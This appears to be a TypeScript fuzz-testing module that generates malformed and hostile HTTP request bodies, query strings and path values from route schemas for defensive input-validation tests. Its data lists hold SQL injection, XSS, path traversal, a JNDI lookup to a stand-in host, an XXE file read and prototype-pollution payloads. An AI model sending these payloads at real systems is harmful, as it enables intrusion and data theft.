import fc from 'fast-check';
import sjson from 'secure-json-parse';
import * as z from 'zod';

/**
 * Malformed requests for any route, generated from the route's own schemas: a skeleton of
 * the body / query (from the zod schema, as JSON Schema) mutated one way at a time, or replaced
 * outright. Everything here is input a client could send; none of it is valid for the route.
 */

const MB = 1_000_000;
export const KHMER = 'សួស្តី ពិភពលោក ខ្ញុំឈ្មោះ ចាន់ សុខា ០១២៣៤៥៦៧៨៩';
/** A 1 MB string (Latin), and about 1 MB of Khmer (3 bytes a character in UTF-8). */
const BIG_LATIN = 'x'.repeat(MB);
const BIG_KHMER = 'ក'.repeat(Math.floor(MB / 3));
/** JSON nested 10,000 deep. */
const DEEP_ARRAY = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
const DEEP_OBJECT = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;

/** Strings that break naive parsers, validators, SQL, paths and renderers. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '   ',
  '\t\n',
  'NaN',
  '-0',
  '1e308',
  '-1e308',
  'Infinity',
  '-1',
  '0',
  '9'.repeat(40),
  '0x1F',
  '1_000',
  '31/02/2020',
  '0000-00-00',
  '2020-02-31',
  '2020-13-45',
  '1899-12-31',
  '9999-12-31T25:61:61Z',
  '2020-02-30T00:00:00+07:00',
  '-001-01-01',
  KHMER,
  'ក',
  '១២៣',
  '\u0000',
  'a\u0000b',
  '\u202Egnp.exe',
  'abc\u202Etxt\u202C',
  '\u200B\u200D\uFEFF',
  '\uD800',
  'e\u0301',
  '💥🇰🇭',
  "' OR '1'='1",
  "1'; DROP TABLE contact; --",
  '" OR ""="',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  // eslint-disable-next-line no-script-url -- hostile test data, never run
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '%252e%252e%252f',
  '\r\nSet-Cookie: a=b',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '__proto__',
  'constructor',
  'prototype',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  'a'.repeat(65),
  'a'.repeat(129),
  'a'.repeat(257),
  'a'.repeat(4097),
  'x@',
  'a@b',
  '+855',
  '0'.repeat(20),
  '00000000-0000-0000-0000-000000000000',
];

/** JSON texts of values of every wrong kind (each is valid JSON). */
const HOSTILE_JSON_CONSTANTS: readonly string[] = [
  'null',
  'true',
  'false',
  '0',
  '-0',
  '-1',
  '1e308',
  '-1e308',
  '1e309',
  '1.5',
  '9007199254740993',
  '-2147483649',
  '1e-400',
  '123456789012345678901234567890',
  '[]',
  '[1,"a",null]',
  '[{}]',
  '[[[]]]',
  '{}',
  '{"a":{"b":{}}}',
  '{"length":1e308}',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"toString":"x","valueOf":1,"hasOwnProperty":null}',
  DEEP_ARRAY,
  DEEP_OBJECT,
  ...HOSTILE_STRINGS.map((s) => JSON.stringify(s)),
  JSON.stringify(BIG_LATIN),
  JSON.stringify(BIG_KHMER),
];

/** Keys a body should not have: prototype pollution and mass-assignment bait. */
const EXTRA_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'isAdmin',
  'roles',
  'ownerUserId',
  'agencyId',
  'id',
  'version',
  'createdDate',
  'deletedAt',
  '',
  '\u0000',
  KHMER,
  '\u202Ekey',
];

/** Bodies that are not JSON at all, though they claim to be. */
const BROKEN_JSON: readonly string[] = [
  '{',
  '{"a":',
  '{"a":1,}',
  "{'a':1}",
  '{a:1}',
  '[1,2',
  'NaN',
  'Infinity',
  'undefined',
  '\u0000',
  '\uFEFF{}',
  '{"a":1}{"b":2}',
  '{"a":"\\x00"}',
  '{"a":"\\uD800"}',
  '{"a":1e999999}',
  ' ',
  '//comment\n{}',
  '<?xml version="1.0"?><a/>',
  'a=1&b=2',
];

/** Non-JSON content types (and broken JSON ones) with a fitting payload. */
const OTHER_CONTENT_TYPES: readonly { contentType: string; payload: string }[] = [
  { contentType: 'text/plain', payload: 'hello' },
  { contentType: 'text/plain', payload: '{"a":1}' },
  { contentType: 'application/xml', payload: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
  { contentType: 'text/html', payload: '<script>alert(1)</script>' },
  { contentType: 'application/x-www-form-urlencoded', payload: 'a=1&__proto__[x]=1' },
  {
    contentType: 'multipart/form-data; boundary=XyZ',
    payload: '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="../../a.pdf.exe"\r\n\r\nMZ\r\n--XyZ--',
  },
  { contentType: 'multipart/form-data', payload: 'no boundary at all' },
  { contentType: 'application/octet-stream', payload: '\u0000\u0001\u0002MZ' },
  { contentType: 'application/json; charset=utf-16', payload: '{}' },
  { contentType: 'application/json; charset=latin1', payload: '{"a":"\u00e9"}' },
  { contentType: 'application/jsonx', payload: '{}' },
  { contentType: 'application/json, text/plain', payload: '{}' },
  { contentType: 'image/png', payload: '\u0089PNG\r\n' },
  { contentType: '', payload: '{"a":1}' },
];

/** Path segments as sent on the wire (raw): broken escapes, traversal, encoded NUL. */
const RAW_PATH_IDS: readonly string[] = [
  '%',
  '%E0%A4%A',
  '%uD800',
  '%00',
  '%FF%FE',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e',
  '..',
  '.',
  '%20',
  '%0D%0ASet-Cookie:%20a=b',
  'a%2Fb',
];

/** Raw query strings with broken or surprising structure. */
const RAW_QUERIES: readonly string[] = [
  '%',
  '%E0%A4%A',
  'a=%ZZ',
  '__proto__[polluted]=1',
  'constructor[prototype][polluted]=1',
  '__proto__=1',
  'a[b][c][d]=1',
  '&&&',
  '=',
  '==',
  'a=1&a=2&a=3',
  `${'a='.repeat(1)}${'b'.repeat(MB)}`,
  `${Array.from({ length: 2000 }, (_, i) => `k${i}=1`).join('&')}`,
];

const randomText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: fc.constantFrom(...'កខគឃងចឆជឈញដឋឌឍណតថទធនបផពភមយរលវសហឡអ្ាិីឹឺុូួើឿៀេែៃោៅំះ៍០១២៣៤៥៦៧៨៩'), maxLength: 30 }),
);

/** A JSON text of some value of the wrong kind. */
export const hostileJsonValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_JSON_CONSTANTS) },
  { weight: 1, arbitrary: randomText.map((s) => JSON.stringify(s)) },
  {
    weight: 1,
    arbitrary: fc.oneof(fc.double(), fc.integer(), fc.bigInt().map(String)).map((n) => (typeof n === 'string' ? n : JSON.stringify(n))),
  },
  { weight: 1, arbitrary: fc.json({ maxDepth: 4 }) },
);

/** A query or path value (a JS string; URL-encode it). */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_STRINGS, BIG_LATIN) },
  { weight: 1, arbitrary: randomText },
  { weight: 1, arbitrary: fc.oneof(fc.double(), fc.integer({ min: -2_147_483_648, max: 2_147_483_647 }), fc.bigInt()).map(String) },
);

type JsonSchema = {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  format?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  minimum?: number;
  minLength?: number;
  minItems?: number;
};

/** The route schema as JSON Schema (input side), or undefined when it cannot be expressed. */
export function jsonSchemaOf(schema: unknown): JsonSchema | undefined {
  if (!(schema instanceof z.ZodType)) return undefined;
  try {
    return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
  } catch {
    return undefined;
  }
}

/** A plausible value for a schema, as JSON text (the starting point the mutations spoil). */
function sampleOf(s: JsonSchema | undefined, depth = 0): string {
  if (!s || depth > 4) return '"abc"';
  if (s.const !== undefined) return JSON.stringify(s.const);
  if (s.enum && s.enum.length > 0) return JSON.stringify(s.enum[0]);
  const alt = s.anyOf ?? s.oneOf;
  if (alt) return sampleOf(alt.find((a) => a.type !== 'null') ?? alt[0], depth + 1);
  const type = Array.isArray(s.type) ? s.type.find((t) => t !== 'null') : s.type;
  switch (type) {
    case 'string':
      if (s.format === 'date') return '"1990-01-15"';
      if (s.format === 'date-time') return '"2026-01-15T09:00:00+07:00"';
      if (s.format === 'email') return '"sokha@example.com"';
      if (s.format === 'uuid') return '"3f1c2a9e-8b7d-4e6f-9a1b-2c3d4e5f6a7b"';
      return JSON.stringify('Abc'.padEnd(Math.max(3, s.minLength ?? 0), 'a'));
    case 'number':
    case 'integer':
      return String(s.minimum ?? 1);
    case 'boolean':
      return 'true';
    case 'array':
      return (s.minItems ?? 0) > 0 ? `[${sampleOf(s.items, depth + 1)}]` : '[]';
    case 'object':
      return objectText(skeletonOf(s, depth + 1));
    default:
      return '"abc"';
  }
}

/** Top-level property -> JSON text of a plausible value. */
export function skeletonOf(s: JsonSchema | undefined, depth = 0): [string, string][] {
  return Object.entries(s?.properties ?? {}).map(([key, prop]) => [key, sampleOf(prop, depth)]);
}

function objectText(entries: readonly [string, string][]): string {
  return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`;
}

export interface BodyCase {
  kind: string;
  contentType: string;
  payload: string;
}

/** Malformed bodies for a route whose body schema is `schema` (JSON Schema of it). */
export function bodyCases(schema: JsonSchema | undefined): fc.Arbitrary<BodyCase> {
  const skeleton = skeletonOf(schema);
  const keys = skeleton.map(([k]) => k);
  const json = (kind: string, payload: string): BodyCase => ({ kind, contentType: 'application/json', payload });
  const arbs: fc.WeightedArbitrary<BodyCase>[] = [
    { weight: 3, arbitrary: hostileJsonValue.map((v) => json('whole body of the wrong kind', v)) },
    { weight: 1, arbitrary: fc.constantFrom(...BROKEN_JSON).map((v) => json('broken JSON', v)) },
    { weight: 1, arbitrary: fc.constantFrom(...OTHER_CONTENT_TYPES).map((c) => ({ kind: 'other content type', ...c })) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.constantFrom(...EXTRA_KEYS), hostileJsonValue)
        .map(([k, v]) => json('extra field', objectText([...skeleton, [k, v]]))),
    },
    { weight: 1, arbitrary: fc.constant(json('over the body limit', JSON.stringify({ blob: `${BIG_LATIN}${'y'.repeat(100_000)}` }))) },
  ];
  if (keys.length > 0) {
    arbs.push(
      {
        weight: 6,
        arbitrary: fc
          .tuple(fc.constantFrom(...keys), hostileJsonValue)
          .map(([key, v]) => json(`wrong value for ${key}`, objectText(skeleton.map(([k, s]) => [k, k === key ? v : s])))),
      },
      {
        weight: 2,
        arbitrary: fc
          .array(hostileJsonValue, { minLength: keys.length, maxLength: keys.length })
          .map((values) => json('every field wrong', objectText(skeleton.map(([k], i) => [k, values[i] as string])))),
      },
      {
        weight: 2,
        arbitrary: fc
          .subarray(keys, { minLength: 1 })
          .map((drop) => json(`missing ${drop.join(', ')}`, objectText(skeleton.filter(([k]) => !drop.includes(k))))),
      },
      { weight: 1, arbitrary: fc.constant(json('array instead of the object', `[${objectText(skeleton)}]`)) },
    );
  }
  return fc.oneof(...arbs);
}

/**
 * encodeURIComponent, except that a lone surrogate (which it refuses) goes out as its WTF-8
 * bytes: exactly the broken UTF-8 a hostile client would send.
 */
export function encodeLoose(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    // falls through: a lone surrogate
  }
  let out = '';
  for (const ch of value) {
    const code = ch.charCodeAt(0);
    if (ch.length === 1 && code >= 0xd800 && code <= 0xdfff) {
      out += `%${(0xe0 | (code >> 12)).toString(16).toUpperCase()}%${(0x80 | ((code >> 6) & 0x3f)).toString(16).toUpperCase()}%${(0x80 | (code & 0x3f)).toString(16).toUpperCase()}`;
    } else {
      out += encodeURIComponent(ch);
    }
  }
  return out;
}

export interface QueryCase {
  kind: string;
  query: string;
}

/** Malformed query strings for a route whose query schema is `schema`. */
export function queryCases(schema: JsonSchema | undefined): fc.Arbitrary<QueryCase> {
  const keys = Object.keys(schema?.properties ?? {});
  const enc = encodeLoose;
  const arbs: fc.WeightedArbitrary<QueryCase>[] = [
    { weight: 2, arbitrary: fc.constantFrom(...RAW_QUERIES).map((q) => ({ kind: 'raw query', query: q })) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom('__proto__', 'constructor', 'prototype', 'unknown', KHMER, '\u0000'), hostileText)
        .map(([k, v]) => ({ kind: 'unknown parameter', query: `${enc(k)}=${enc(v)}` })),
    },
  ];
  if (keys.length > 0) {
    arbs.push(
      {
        weight: 6,
        arbitrary: fc
          .tuple(fc.constantFrom(...keys), hostileText)
          .map(([k, v]) => ({ kind: `wrong value for ${k}`, query: `${enc(k)}=${enc(v)}` })),
      },
      {
        weight: 2,
        arbitrary: fc
          .tuple(fc.constantFrom(...keys), fc.array(hostileText, { minLength: 2, maxLength: 4 }))
          .map(([k, vs]) => ({ kind: `${k} repeated`, query: vs.map((v) => `${enc(k)}=${enc(v)}`).join('&') })),
      },
      {
        weight: 2,
        arbitrary: fc
          .array(hostileText, { minLength: keys.length, maxLength: keys.length })
          .map((vs) => ({ kind: 'every parameter wrong', query: keys.map((k, i) => `${enc(k)}=${enc(vs[i] as string)}`).join('&') })),
      },
    );
  }
  return fc.oneof(...arbs);
}

export interface PathCase {
  kind: string;
  /** Path parameter values, already as they go on the wire. */
  values: Record<string, string>;
}

/** Malformed path parameter values (one parameter spoilt, the others a plausible id). */
export function pathCases(params: readonly string[]): fc.Arbitrary<PathCase> {
  const plain = Object.fromEntries(params.map((p) => [p, 'X1']));
  return fc
    .tuple(
      fc.constantFrom(...params),
      fc.oneof(
        { weight: 4, arbitrary: hostileText.map((v) => encodeLoose(v)) },
        { weight: 1, arbitrary: fc.constantFrom(...RAW_PATH_IDS) },
      ),
    )
    .map(([name, value]) => ({ kind: `bad path ${name}`, values: { ...plain, [name]: value } }));
}

/** Control characters and broken Unicode that validators tend to let through into free text. */
const CONTROL_STRINGS: readonly string[] = [
  'a\u0000b',
  '\u0000',
  'Sokha\u0000',
  'x\u0001\u0002\u001f\u007f',
  '\uD800',
  'a\uDC00b',
  'ab\uFFFF',
  '\uFFFE',
  '\u202Eevil',
  'a\u2028b\u2029c',
  '\r\n\r\n',
];

/**
 * A body the contract may well accept: the valid `base` with one text field replaced by a
 * hostile string. This reaches past validation into services and the database.
 */
export function hostileFieldCases(base: Record<string, unknown>): fc.Arbitrary<{ kind: string; payload: string }> | undefined {
  const keys = Object.keys(base).filter((k) => typeof base[k] === 'string');
  if (keys.length === 0) return undefined;
  const value = fc.oneof(
    { weight: 2, arbitrary: fc.constantFrom(...CONTROL_STRINGS) },
    { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_STRINGS, BIG_LATIN, BIG_KHMER) },
    { weight: 1, arbitrary: randomText },
  );
  return fc.tuple(fc.constantFrom(...keys), value, fc.boolean()).map(([key, v, append]) => {
    const spoilt = append ? `${String(base[key])}${v}` : v;
    return { kind: `hostile ${key}`, payload: JSON.stringify({ ...base, [key]: spoilt }) };
  });
}

/** True when the route's own body schema would accept this JSON text (then it is not malformed). */
export function schemaAccepts(schema: unknown, contentType: string, payload: string): boolean {
  // Fastify's JSON parser takes any `application/json` media type, whatever its parameters.
  if (!(schema instanceof z.ZodType) || contentType.split(';')[0]?.trim().toLowerCase() !== 'application/json') return false;
  let value: unknown;
  try {
    // As Fastify parses it: `__proto__` and `constructor.prototype` keys are refused outright.
    value = sjson.parse(payload, undefined, { protoAction: 'error', constructorAction: 'error' });
  } catch {
    return false;
  }
  try {
    return schema.safeParse(value).success;
  } catch {
    return false;
  }
}
